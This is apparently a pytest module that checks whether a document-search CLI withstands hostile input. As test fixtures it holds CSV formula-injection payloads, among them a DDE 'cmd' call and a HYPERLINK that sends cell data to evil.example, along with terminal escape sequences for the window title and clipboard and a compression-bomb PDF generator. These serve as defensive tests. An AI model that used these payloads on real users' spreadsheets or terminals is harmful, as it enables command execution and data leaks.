"""Issue 20: hostile or unlucky input harms neither the user nor the index.

One section per item of the issue; each test asserts the outcome a user meets
(the cell text, the exit code and the single stderr line, the files left in the
index folder, a time bound), through the real command where a user would.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from paperfinder.index.build import index_paths
from paperfinder.text.safe import cell, marked, plain, terminal

from .conftest import corpus_file
from .paused_run import PausedRun, read_so_far
from .test_robustness import PF, _wait_for, faults, lines_of, pf

ESC = "\x1b"

HOSTILE_PAPER = f"""# =HYPERLINK("http://evil.example/?x="&A1,"Click for the budget")

Date: 12 March 2021

## +cmd|' /C calc'!A0

-2+3 is what the quokka budget line says.

@SUM(A1:A9) quokka totals are listed below.

The quokka budget sheet is at S:\\Finance\\Budget\\x.xlsx and the [bold]quokka[/bold] team keeps it.

Quokka title{ESC}]0;pwned{chr(7)} and clipboard{ESC}]52;c;ZWNobyBoaQ=={chr(7)} and {ESC}[8mhidden quokka{ESC}[0m text.
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A folder with a hostile paper and the bundled Westminster paper, indexed."""
    tmp = tmp_path_factory.mktemp("hostile")
    (tmp / "papers").mkdir()
    (tmp / "papers" / "hostile.md").write_text(HOSTILE_PAPER, encoding="utf-8")
    (tmp / "papers" / "minus.txt").write_text("-2+3 is what the quokka sum says.\n\nMore quokka text.\n")
    (tmp / "papers" / "at.txt").write_text("@SUM(A1:A9) quokka totals.\n\nMore quokka text.\n")
    shutil.copy(corpus_file("000"), tmp / "papers" / "westminster.txt")
    report = index_paths([tmp / "papers"], tmp / "index")
    assert report.added == 4 and not report.skipped
    return tmp


# ---- 1. CSV cells that a spreadsheet would run ------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("a = b", "a = b"),
    ("", ""),
    (None, ""),
    (12, "12"),
])
def test_spreadsheet_cell_prefixes_formula_starts(value, expected):
    assert cell(value) == expected


def test_csv_export_keeps_no_formula_cell(hostile):
    p = pf("export", "quokka", "--format", "csv", "--output", "out.csv", "--index", "index", cwd=hostile)
    assert p.returncode == 0, p.stderr
    with open(hostile / "out.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows
    cells = [v for row in rows for v in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    titles = {r["title"] for r in rows}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click for the budget")' in titles
    texts = [r["text"] for r in rows]
    assert any(t.startswith("'-2+3 is what the quokka sum") for t in texts), texts
    assert any(t.startswith("'@SUM(A1:A9) quokka totals") for t in texts), texts
    assert any(r["section"].startswith("'+cmd|") for r in rows)


# ---- 2 and 3. paper text on the terminal ------------------------------------------------

def test_terminal_text_prints_as_written_whatever_the_backslashes_and_brackets():
    from rich.console import Console

    for text in ["S:\\Finance\\Budget\\", "a\\\\\\", "[bold]x[/bold]", "\\[bold]", "x [", "[/]", "\\"]:
        console = Console(width=200, record=True, highlight=False)
        console.print(f"[dim]{terminal(text)}[/dim]")
        assert console.export_text().rstrip("\n") == text
    console = Console(width=200, record=True, highlight=False)
    console.print(marked("S:\\Finance\\**Budget**\\x \\**budget** [b]**[i]**"))
    assert console.export_text().rstrip("\n") == "S:\\Finance\\Budget\\x \\budget [b][i]"


def test_terminal_text_has_no_escape_sequences_or_control_characters():
    s = plain(f"a{ESC}]0;pwned\x07b{ESC}]52;c;ZWNobw==\x07c{ESC}[8md{ESC}[0m\x9b31me\x07\x08\r\u202ef\tg\nh")
    assert s == "abcde" + "f\tg\nh"
    assert plain("caf\udce9.txt") == "caf\\xe9.txt"  # a file name that is not UTF-8


def test_search_with_backslash_before_a_matched_word_prints_it(hostile):
    p = pf("search", "budget", "--index", "index", "-n", "20", cwd=hostile)
    assert p.returncode == 0, p.stderr
    assert "S:\\Finance\\Budget\\x.xlsx" in p.stdout
    assert "[bold]quokka[/bold]" in p.stdout  # brackets in a paper are text, not markup


def test_corpus_search_for_underscore_and_prints(corpus_index):
    p = pf("search", "_and", "--index", corpus_index)
    assert p.returncode == 0, p.stderr


@pytest.mark.parametrize("cmd", [["search", "quokka", "-n", "20"], ["show", None], ["ask", "What is the quokka budget?"],
                                 ["decisions", "quokka"], ["timeline", "quokka"], ["facets", "doc_type"]])
def test_no_escape_sequence_or_control_character_reaches_the_terminal(hostile, cmd):
    if cmd[1] is None:
        hits = json.loads(pf("search", "clipboard", "--format", "json", "--index", "index", cwd=hostile).stdout)["hits"]
        cmd = ["show", hits[0]["doc_id"]]
    p = pf(*cmd, "--index", "index", cwd=hostile)
    assert p.returncode == 0, p.stderr
    assert ESC not in p.stdout + p.stderr and "\x07" not in p.stdout
    if cmd[0] in ("search", "show"):
        assert "hidden quokka" in p.stdout  # the text itself is kept, only the sequence goes


# ---- 7. very long lines ---------------------------------------------------------------

_PROSE = "The council agreed the budget of £1.2m for the care service in 2020. Members noted the report and its risks. "


def _best_of(n: int, call, clock=time.perf_counter) -> float:
    best = float("inf")
    for _ in range(n):
        t = clock()
        call()
        best = min(best, clock() - t)
    return best


def test_long_line_is_cut_in_linear_time():
    """A line 8x longer takes about 8x the CPU time to cut into pieces; quadratic work
    would take about 64x. The bound (24x) leaves room for a loaded machine, and CPU
    time, not wall time, is compared so other processes do not count."""
    from paperfinder.ingest.readers import MAX_LINE_CHARS, lines_from_text

    small = _PROSE * (2 * 1024 * 1024 // len(_PROSE))
    big = small * 8
    t_small = _best_of(3, lambda: lines_from_text(small), clock=time.process_time)
    t_big = _best_of(3, lambda: lines_from_text(big), clock=time.process_time)
    assert t_big < 24 * t_small, f"2 MB {t_small:.2f}s, 16 MB {t_big:.2f}s: not linear"
    pieces = lines_from_text(big)
    assert all(len(p.text) <= MAX_LINE_CHARS for p in pieces)
    assert "".join(p.text.replace(" ", "") for p in pieces) == big.replace(" ", "")  # nothing lost or doubled


def test_20mb_line_is_read_and_sectioned_well_within_the_file_time_limit(tmp_path):
    from paperfinder.ingest.readers import read_documents
    from paperfinder.ingest.sections import passages_of

    f = tmp_path / "oneline.txt"
    f.write_text("# Long paper\n\n" + _PROSE * (20 * 1024 * 1024 // len(_PROSE)) + "the final platypusword.\n", encoding="utf-8")
    t = time.process_time()  # CPU time: other work on a shared machine does not count
    passages = [p for doc in read_documents(f) for p in passages_of(doc)]
    seconds = time.process_time() - t
    assert seconds < 30, f"{seconds:.1f} CPU seconds to read and section a 20 MB line"
    assert len(passages) > 5000 and all(p.line_start == p.line_end == 3 for p in passages[1:])
    assert "platypusword" in passages[-1].text


# ---- 4. a full disk -------------------------------------------------------------------

def _index_files(d: Path) -> set[str]:
    return {p.name for p in d.iterdir()}


@pytest.fixture
def small_disk(tmp_path):
    """A real 16 MB tmpfs (root can mount one here); the test is skipped where mounting is not allowed."""
    disk = tmp_path / "disk"
    disk.mkdir()
    p = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16m", "tmpfs", str(disk)], capture_output=True, text=True, check=False)
    if p.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({p.stderr.strip()})")
    try:
        yield disk
    finally:
        subprocess.run(["umount", "-l", str(disk)], check=False)


def _fill(disk: Path, leave: int) -> Path:
    """Fill ``disk`` up to ``leave`` bytes free with one file."""
    st = os.statvfs(disk)
    free = st.f_bavail * st.f_frsize
    filler = disk / "filler"
    with open(filler, "wb") as fh:
        fh.write(b"\0" * max(0, free - leave))
    return filler


def test_full_disk_leaves_the_index_as_it_was_and_the_next_run_completes(tmp_path, small_disk):
    papers = tmp_path / "papers"
    papers.mkdir()
    shutil.copy(corpus_file("000"), papers / "a.txt")
    shutil.copy(corpus_file("003"), papers / "b.txt")
    index = small_disk / "index"
    p = pf("index", "papers", "--index", index, "--quiet", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    before_files, before = _index_files(index), faults.content(index)
    for k in ("001", "002", "004"):
        shutil.copy(corpus_file(k), papers / f"new_{k}.txt")
    filler = _fill(small_disk, leave=64 * 1024)
    for args in (["--quiet"], ["--quiet", "--rebuild"], ["--quiet", "--workers", "1"]):
        p = pf("index", "papers", "--index", index, *args, cwd=tmp_path)
        assert p.returncode == 1, (args, p.stderr)
        (line,) = lines_of(p.stderr)
        assert line.startswith(f"error: cannot write the index at {index}: No space left on device; "
                               "the index is as it was before this run"), line
        assert _index_files(index) == before_files, args  # no partial segment, no passages.tmp
        assert not (small_disk / "index.rebuild-tmp").exists()
        assert faults.content(index) == before
        assert json.loads(pf("search", "Clinical Practice Team", "--format", "json", "--index", index).stdout)["total"] > 0
    filler.unlink()
    p = pf("index", "papers", "--index", index, "--quiet", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    p = pf("index", "papers", "--index", tmp_path / "clean", "--quiet", cwd=tmp_path)
    assert faults.content(index) == faults.content(tmp_path / "clean")
    assert all(n.endswith((".seg", ".toc")) for n in _index_files(index) - before_files)


# ---- 5. two writers at once ---------------------------------------------------------------

@pytest.fixture
def two_papers(tmp_path) -> Path:
    (tmp_path / "papers").mkdir()
    shutil.copy(corpus_file("000"), tmp_path / "papers" / "a.txt")
    shutil.copy(corpus_file("001"), tmp_path / "papers" / "b.txt")
    return tmp_path


def test_second_writer_stops_in_one_line_naming_the_holder(two_papers):
    from paperfinder.index import writelock

    tmp = two_papers
    for args in ([], ["--rebuild"]):
        with writelock.hold(tmp / "index"):
            p = pf("index", "papers", "--index", "index", "--quiet", *args, cwd=tmp)
        assert p.returncode == 1
        assert lines_of(p.stderr) == [(f"error: another paperfinder index is writing to index (pid {os.getpid()}); "
                                       "try again when it has finished, or pass --wait to wait for it")]
        assert _index_files(tmp / "index") == {"write.lock"}  # nothing written, the lock file kept


def test_second_writer_with_wait_waits_for_the_first(two_papers):
    from paperfinder.index import writelock

    tmp = two_papers
    with writelock.hold(tmp / "index"):
        proc = subprocess.Popen([*PF, "index", "papers", "--index", "index", "--quiet", "--wait"], cwd=tmp,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        # it says it waits (an event, not a guess at how long it takes to get there) ...
        assert _wait_for(lambda: "waiting for" in read_so_far(proc) or proc.poll() is not None), proc.communicate()
        assert proc.poll() is None, proc.communicate()
        assert _index_files(tmp / "index") == {"write.lock"}  # ... and has written nothing
    _out, err = proc.communicate(timeout=300)
    err = read_so_far(proc) + err
    assert proc.returncode == 0, err
    assert lines_of(err)[0] == f"waiting for another paperfinder index writing to index (pid {os.getpid()}) to finish"
    assert sum(faults.content(tmp / "index").values()) > 0


@pytest.mark.parametrize("first, second", [(["--rebuild"], []), ([], ["--rebuild"]), (["--rebuild"], ["--rebuild"])])
def test_rebuild_and_update_at_once_one_stops_and_nothing_is_left_over(two_papers, first, second):
    tmp = two_papers
    assert pf("index", "papers", "--index", "index", "--quiet", cwd=tmp).returncode == 0
    lock = tmp / "index" / "write.lock"
    inode = lock.stat().st_ino
    long_paper = corpus_file("004").read_text(encoding="utf-8")
    for i in range(3):  # long papers: the first run writes a while
        (tmp / "papers" / f"c{i}.txt").write_text(long_paper + f"\nEdition {i}.\n", encoding="utf-8")
    # the first run is held while it writes (it holds the lock) until the second has tried
    run = PausedRun(tmp, "_written", 1, "papers", "--index", "index", "--quiet", "--workers", "1", *first)
    try:
        assert run.reached(), run.proc.communicate()[1]
        p = pf("index", "papers", "--index", "index", "--quiet", *second, cwd=tmp)
        run.release()
        _out, err = run.proc.communicate(timeout=300)
    finally:
        run.close()
    proc = run.proc
    assert proc.returncode == 0, err
    assert p.returncode == 1, p.stderr
    (line,) = lines_of(p.stderr)
    assert line.startswith(f"error: another paperfinder index is writing to index (pid {proc.pid}); try again"), line
    assert lock.stat().st_ino == inode  # nobody deleted the lock
    assert not (tmp / "index.rebuild-tmp").exists() and not (tmp / "index" / "passages.tmp").exists()
    seg_and_toc = {n for n in _index_files(tmp / "index") if n.endswith((".seg", ".toc"))}
    assert len([n for n in seg_and_toc if n.endswith(".toc")]) == 1
    assert pf("index", "papers", "--index", tmp / "clean", "--quiet", cwd=tmp).returncode == 0
    assert faults.content(tmp / "index") == faults.content(tmp / "clean")


# ---- 12b. a bit flip inside a segment -------------------------------------------------------

def test_bit_flip_in_a_segment_says_index_damaged(two_papers):
    tmp = two_papers
    assert pf("index", "papers", "--index", "index", "--quiet", cwd=tmp).returncode == 0
    seg = max((tmp / "index").glob("*.seg"), key=lambda s: s.stat().st_size)
    data = bytearray(seg.read_bytes())
    data[len(data) // 2] ^= 0x10
    seg.write_bytes(bytes(data))
    for cmd in (["search", "budget"], ["search", "Clinical Practice Team", "--format", "json"], ["ask", "Who signed it?"],
                ["export", "budget", "--output", "out.csv"], ["index", "papers"]):
        p = pf(*cmd, "--index", "index", cwd=tmp)
        assert p.returncode == 1, (cmd, p.stderr)
        assert lines_of(p.stderr) == [(f"error: index damaged: {seg.name} in index does not match its checksum "
                                       "(run `paperfinder index --rebuild PATH`)")], cmd
        assert p.stdout == ""
    assert not (tmp / "out.csv").exists()
    p = pf("index", "papers", "--index", "index", "--quiet", "--rebuild", cwd=tmp)
    assert p.returncode == 0, p.stderr
    assert json.loads(pf("search", "Clinical Practice Team", "--format", "json", "--index", "index", cwd=tmp).stdout)["total"]


# ---- 11 and 12. user errors: one line, exit 1 -----------------------------------------------

def test_index_naming_a_regular_file_is_one_line(two_papers):
    tmp = two_papers
    (tmp / "afile").write_text("not an index")
    for cmd in (["index", "papers"], ["search", "budget"], ["ask", "What is the budget?"]):
        p = pf(*cmd, "--index", "afile", cwd=tmp)
        assert p.returncode == 1, p.stderr
        (line,) = lines_of(p.stderr)
        assert line.startswith("error: --index afile is a file, not an index folder"), line
    assert (tmp / "afile").read_text() == "not an index"


def test_index_of_a_path_that_does_not_exist_is_one_line(two_papers):
    p = pf("index", "/nonexistent", "--index", "index", cwd=two_papers)
    assert p.returncode == 1
    assert lines_of(p.stderr) == ["error: no such file or folder: /nonexistent (check the path)"]
    assert not (two_papers / "index").exists()


# ---- 6. encrypted PDFs ------------------------------------------------------------------

LGO_PDF = Path(__file__).resolve().parent / "fixtures" / "samples" / "lgo_final_decision_16005626_southwark_2016-11-30.pdf"


def _encrypted(dest: Path, algorithm: str, user_password: str) -> Path:
    from pypdf import PdfWriter

    w = PdfWriter(clone_from=str(LGO_PDF))
    w.encrypt(user_password=user_password, owner_password="owner-only", algorithm=algorithm, permissions_flag=0)
    with open(dest, "wb") as fh:
        w.write(fh)
    return dest


def test_aes_encrypted_pdfs_are_read_and_one_needing_a_password_is_skipped(tmp_path):
    folder = tmp_path / "papers"
    folder.mkdir()
    for algorithm in ("AES-128", "AES-256", "RC4-128"):
        _encrypted(folder / f"open_{algorithm}.pdf", algorithm, user_password="")  # permissions only
    _encrypted(folder / "locked.pdf", "AES-256", user_password="s3cret")
    p = pf("index", "papers", "--index", "index", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert lines_of(p.stderr)[0] == ("skipped: papers/locked.pdf: encrypted PDF (needs a password) "
                                     "(save an unencrypted copy and index that)")
    assert "3 added" in lines_of(p.stderr)[1] and "1 skipped" in lines_of(p.stderr)[1]
    stored = faults.content(tmp_path / "index")
    assert {Path(source).name for source, *_ in stored} == {"open_AES-128.pdf", "open_AES-256.pdf", "open_RC4-128.pdf"}
    assert len(stored) > 10
    hit = json.loads(pf("search", "Southwark", "--format", "json", "--index", "index", cwd=tmp_path).stdout)["hits"][0]
    assert "Southwark" in hit["text"]


# ---- 11. a compression bomb ----------------------------------------------------------------

def make_bomb_pdf(path: Path, expands_to_mb: int = 300) -> int:
    """A one-page PDF whose content stream is a few hundred KB compressed and ``expands_to_mb`` MB inflated."""
    import zlib

    comp = zlib.compress(b"BT /F1 12 Tf 72 720 Td (budget) Tj ET\n" + b" " * (expands_to_mb << 20), 9)
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(comp) + comp + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = b"%PDF-1.4\n", []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    path.write_bytes(out)
    return len(out)


def test_compression_bomb_pdf_is_one_line_not_an_internal_error(tmp_path):
    folder = tmp_path / "papers"
    folder.mkdir()
    assert make_bomb_pdf(folder / "bomb.pdf") < 1 << 20
    shutil.copy(corpus_file("000"), folder / "good.txt")
    bomb_line = ("papers/bomb.pdf: PDF expands beyond 200 MB in one stream when decompressed (a compression bomb?) "
                 "(not read; re-save it with a PDF tool if it is a real paper)")
    p = pf("entities", "papers/bomb.pdf", cwd=tmp_path)
    assert p.returncode == 1 and lines_of(p.stderr) == ["error: " + bomb_line]
    p = pf("index", "papers", "--index", "index", cwd=tmp_path)
    assert p.returncode == 0 and lines_of(p.stderr)[0] == "skipped: " + bomb_line
    assert "1 added" in p.stderr


# ---- 12. bad values are rejected --------------------------------------------------------

@pytest.mark.parametrize("option, value, message", [
    ("--since", "2020-13-45", "error: --since '2020-13-45' is not a date (use YYYY-MM-DD, e.g. --since 2016-01-01)"),
    ("--until", "2021-02-29", "error: --until '2021-02-29' is not a date (use YYYY-MM-DD, e.g. --since 2016-01-01)"),
    ("--since", "2020-00", "error: --since '2020-00' is not a date (use YYYY-MM-DD, e.g. --since 2016-01-01)"),
    ("--min-amount", "nan", "error: --min-amount 'nan' is not an amount (e.g. 1000000, 1m, £1m, €500k or $2.5bn)"),
    ("--max-amount", "inf", "error: --max-amount 'inf' is not an amount (e.g. 1000000, 1m, £1m, €500k or $2.5bn)"),
])
@pytest.mark.parametrize("cmd", [["search", "budget"], ["ask", "What is the budget?"], ["export", "budget", "--output", "-"]])
def test_bad_filter_values_are_one_line_errors(corpus_index, cmd, option, value, message):
    p = pf(*cmd, option, value, "--index", corpus_index)
    assert (p.returncode, lines_of(p.stderr), p.stdout) == (1, [message], "")


def test_real_dates_are_still_taken(corpus_index):
    p = pf("search", "budget", "--since", "2020-02-29", "--until", "2020-12", "--format", "json", "--index", corpus_index)
    assert p.returncode == 0 and json.loads(p.stdout)["total"] > 0


# ---- 8. folders and file names ---------------------------------------------------------------

def _iter_files_as_nobody(folder: Path) -> tuple[list[str], list[list[str]]]:
    """``iter_files`` run by a user the folder's mode applies to (root reads any folder)."""
    from paperfinder.ingest.readers import iter_files

    if os.geteuid() != 0:
        found, problems = iter_files([folder])
        return [str(f) for f in found], [list(x) for x in problems]
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: drop to nobody, walk, report as JSON
        try:
            os.close(read)
            os.setgid(65534)
            os.setuid(65534)
            found, problems = iter_files([folder])
            os.write(write, json.dumps([[str(f) for f in found], problems]).encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read) as fh:
        data = fh.read()
    os.waitpid(pid, 0)
    return tuple(json.loads(data))


def test_unreadable_folder_is_reported_not_skipped_silently(tmp_path_factory):
    import tempfile

    top = Path(tempfile.mkdtemp(prefix="pf-unreadable-"))  # a folder other users may enter
    try:
        top.chmod(0o755)
        (top / "open").mkdir()
        (top / "open" / "a.txt").write_text("A paper.\n")
        (top / "locked").mkdir()
        (top / "locked" / "b.txt").write_text("A locked paper.\n")
        (top / "locked").chmod(0)
        found, problems = _iter_files_as_nobody(top)
    finally:
        (top / "locked").chmod(0o755)
        shutil.rmtree(top)
    assert [Path(f).name for f in found] == ["a.txt"]
    assert problems == [[str(top / "locked"), "cannot read folder (Permission denied)"]]


def test_file_name_that_is_not_utf8_is_indexed_and_printed(tmp_path):
    folder = tmp_path / "papers"
    folder.mkdir()
    (folder / os.fsdecode(b"caf\xe9.txt")).write_text("# Cafe report\n\nThe wombat budget was agreed.\n")
    p = pf("index", "papers", "--index", "index", cwd=tmp_path)
    assert p.returncode == 0 and "1 added" in p.stderr, p.stderr
    hit = json.loads(pf("search", "wombat", "--format", "json", "--index", "index", cwd=tmp_path).stdout)["hits"][0]
    assert hit["source"] == "papers/caf\\xe9.txt"
    p = pf("search", "wombat", "--index", "index", cwd=tmp_path)
    assert p.returncode == 0 and "papers/caf\\xe9.txt:1-3" in p.stdout
    p = pf("index", "papers", "--index", "index", cwd=tmp_path)
    assert p.returncode == 0 and "1 files unchanged" in p.stderr, p.stderr


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_utf16_and_utf32_text_with_a_byte_order_mark_is_read_as_text(tmp_path, encoding):
    import codecs

    folder = tmp_path / "papers"
    folder.mkdir()
    bom = {"utf-16-be": codecs.BOM_UTF16_BE}.get(encoding, b"")
    (folder / "wide.txt").write_bytes(bom + "# Caf\u00e9 report\n\nThe numbat budget of \u00a35m was agreed.\n".encode(encoding))
    report = index_paths([folder], tmp_path / "index")
    assert report.added == 1 and not report.skipped
    from paperfinder.search.service import search

    (hit,) = search("numbat", tmp_path / "index").hits
    assert "The numbat budget of \u00a35m was agreed." in hit.text and hit.line_start == 1


# ---- 9. export onto special files ------------------------------------------------------------

def test_export_force_refuses_a_device_a_symlink_and_a_folder(corpus_index, tmp_path):
    keep = tmp_path / "keep.csv"
    keep.write_text("keep me")
    (tmp_path / "link.csv").symlink_to(keep)
    (tmp_path / "dangling.csv").symlink_to(tmp_path / "nowhere.csv")
    (tmp_path / "folder.csv").mkdir()
    os.mkfifo(tmp_path / "fifo.csv")
    for name in ("/dev/null", "link.csv", "dangling.csv", "folder.csv", "fifo.csv"):
        p = pf("export", "budget", "--output", name, "--force", "--index", corpus_index, cwd=tmp_path)
        assert p.returncode == 1, (name, p.stderr)
        assert lines_of(p.stderr) == [(f"error: {name} is not a regular file (a link, device, pipe or folder) and is left "
                                       "as it is (choose another --output, or - for standard output)")]
    assert (tmp_path / "link.csv").is_symlink() and keep.read_text() == "keep me"
    assert (tmp_path / "dangling.csv").is_symlink() and not (tmp_path / "nowhere.csv").exists()
    assert Path("/dev/null").is_char_device()


def test_export_does_not_clobber_an_existing_part_file(corpus_index, tmp_path):
    (tmp_path / "out.csv.part").write_text("another export's half file")
    p = pf("export", "budget", "--output", "out.csv", "--index", corpus_index, cwd=tmp_path)
    assert p.returncode == 1
    assert lines_of(p.stderr) == [("error: out.csv.part exists (another export writing it, or one that failed) "
                                   "(remove it, or choose another --output)")]
    assert (tmp_path / "out.csv.part").read_text() == "another export's half file"
    assert not (tmp_path / "out.csv").exists()


# ---- 11. output to a full device ------------------------------------------------------------------

@pytest.mark.parametrize("cmd", [["search", "budget"], ["search", "budget", "--format", "json"],
                                 ["export", "budget", "--output", "-"], ["facets", "person"]])
def test_output_to_a_full_device_is_one_line(corpus_index, cmd):
    with open("/dev/full", "w") as full:
        p = subprocess.run([*PF, *cmd, "--index", str(corpus_index)], stdout=full, stderr=subprocess.PIPE, text=True,
                           timeout=300, check=False)
    assert (p.returncode, lines_of(p.stderr)) == (1, ["error: cannot write the output (No space left on device)"])


# ---- 10. fuzzy terms ------------------------------------------------------------------------

def _fuzzy_query(n: int) -> str:
    import re

    words = sorted(set(re.findall(r"[a-z]{6,}", corpus_file("004").read_text(encoding="utf-8"))))[:n]
    return " OR ".join(w + "~2" for w in words)


def test_fuzzy_terms_are_capped_in_words_and_time(corpus_index):
    from paperfinder.backends.whoosh import backend, spelling
    from paperfinder.search.service import search
    from paperfinder.search.syntax import parse

    q = backend.compiled(corpus_index, parse("care~2 OR budget~5"))
    terms = [t for t in q.leaves() if type(t).__name__ == "Term"]
    assert terms and type(q).__name__ == "Or"
    for part in q.children():  # one Or of words per fuzzy term and field
        assert 1 <= len(list(part.leaves())) <= spelling.FUZZY_MAX_TERMS
    assert not [t for t in q.leaves() if type(t).__name__ == "FuzzyTerm"]
    from rapidfuzz.distance import Levenshtein

    assert all(Levenshtein.distance(t.text, "budget") <= 2 or Levenshtein.distance(t.text, "care") <= 2 for t in terms)
    text = _fuzzy_query(50)
    search(text, corpus_index)  # the term lists are read once per index generation
    t = time.process_time()  # CPU time: other work on a shared machine does not count
    result = search(text, corpus_index)
    assert time.process_time() - t < 2.5, "50 fuzzy terms"  # whoosh's own expansion: about 5 s here
    assert result.total > 100


def test_fuzzy_expansion_stops_at_its_time_budget(corpus_index, monkeypatch):
    from paperfinder.backends.whoosh import backend, schema, spelling
    from paperfinder.search.syntax import parse

    monkeypatch.setattr(spelling, "FUZZY_SECONDS", 0.0)
    q = backend.compiled(corpus_index, parse("budgte~2"))
    assert sorted({t.text for t in q.leaves()}) == schema.analyse("budgte")  # past the budget: the word itself only


# ---- 11. a very long question; Ctrl-C ------------------------------------------------------------

@pytest.mark.parametrize("shape", ["prose", "nested", "operators"])
def test_very_long_question_is_answered_or_one_line(corpus_index, shape):
    words = corpus_file("001").read_text(encoding="utf-8").split()[:1500]
    question = {
        "prose": "What is " + " ".join(words) + "?",
        "nested": "What is " + "(" * 1500 + "the budget" + ")" * 1500 + "?",
        "operators": "What is " + " AND ".join(words[:750]) + "?",
    }[shape]
    for cmd in (["ask", question], ["search", question]):
        p = pf(*cmd, "--index", corpus_index)
        assert "internal error" not in p.stderr
        assert p.returncode == 0 or (p.returncode == 1 and len(lines_of(p.stderr)) == 1), p.stderr[-500:]


def test_ctrl_c_prints_one_line_and_no_worker_traceback(tmp_path):
    import random
    import signal

    faults.make_corpus(tmp_path / "papers", 200)
    # Ctrl-C at named moments of the run, chosen by a seeded draw: while the survey's
    # pool reads files, while the writers' pool writes them (the last one: just before the commit)
    points = [("_parsed", n) for n in (1, 40, 150)] + [("_written", n) for n in (1, 60, 199)]
    for at, nth in random.Random(20).sample(points, 5):
        shutil.rmtree(tmp_path / "index", ignore_errors=True)
        run = PausedRun(tmp_path, at, nth, "papers", "--index", "index", "--quiet")
        try:
            assert run.reached(), run.proc.communicate()[1]
            os.killpg(run.pid, signal.SIGINT)  # what a terminal does on Ctrl-C: the whole process group
            _out, err = run.proc.communicate(timeout=300)
        finally:
            run.close()
        assert "Traceback" not in err, (at, nth, err[-2000:])
        assert (run.proc.returncode, lines_of(err)) == (130, ["error: interrupted; the index is as it was before this run"]), (at, nth)


def test_an_update_removes_what_a_killed_rebuild_left(two_papers):
    tmp = two_papers
    assert pf("index", "papers", "--index", "index", "--quiet", cwd=tmp).returncode == 0
    (tmp / "index.rebuild-tmp").mkdir()  # as a rebuild killed with SIGKILL leaves it
    (tmp / "index.rebuild-tmp" / "passages_x.seg").write_text("half")
    (tmp / "papers" / "b.txt").unlink()
    p = pf("index", "papers", "--index", "index", "--quiet", cwd=tmp)
    assert p.returncode == 0 and "1 removed" in p.stderr, p.stderr
    assert not (tmp / "index.rebuild-tmp").exists()


def test_progress_bar_shows_a_hostile_file_name_as_text(tmp_path):
    """The progress bar (stderr on a terminal) names each file: markup and escape sequences in a name stay text."""
    import pty

    folder = tmp_path / "papers"
    folder.mkdir()
    for i in range(3):
        (folder / f"p{i}{ESC}]0;pwned{chr(7)}[bold]\\.txt").write_text(f"# Paper {i}\n\nThe quokka budget {i}.\n")
    master, slave = pty.openpty()
    proc = subprocess.Popen([*PF, "index", "papers", "--index", "index", "--workers", "1"], cwd=tmp_path,
                            stdout=subprocess.PIPE, stderr=slave, text=True)
    os.close(slave)
    seen = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # the command ended and closed the terminal
            break
        if not chunk:
            break
        seen += chunk
    proc.wait(timeout=300)
    os.close(master)
    assert proc.returncode == 0, seen[-2000:]
    assert b"]0;pwned" not in seen and b"Traceback" not in seen and b"internal error" not in seen
    assert b"3 added" in seen
